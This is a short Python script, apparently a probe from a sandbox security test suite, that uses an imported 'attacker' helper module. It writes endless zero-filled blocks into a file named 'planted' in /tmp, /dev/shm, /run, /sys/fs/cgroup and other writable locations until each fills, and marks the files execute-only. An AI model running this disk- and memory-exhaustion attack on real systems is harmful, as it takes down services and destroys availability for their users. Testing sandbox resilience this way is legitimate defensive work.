"""Fills every place that can be written until nothing fits, in files that may be executed and nobody may read."""

import os

from attacker import look_around, over

PLACES = ("/workspace", "/tmp", "/dev/shm", "/dev/mqueue", "/dev", "/var/tmp", "/run", "/sys/fs/cgroup")
look_around(*(f"{place}/planted" for place in PLACES))
block = bytes(1 << 20)
for place in PLACES:
    try:
        with open(f"{place}/planted", "wb", buffering=0) as file:
            os.fchmod(file.fileno(), 0o111)
            while True:
                file.write(block)
    except OSError as error:
        print("held:", place, "-", error, flush=True)
over()
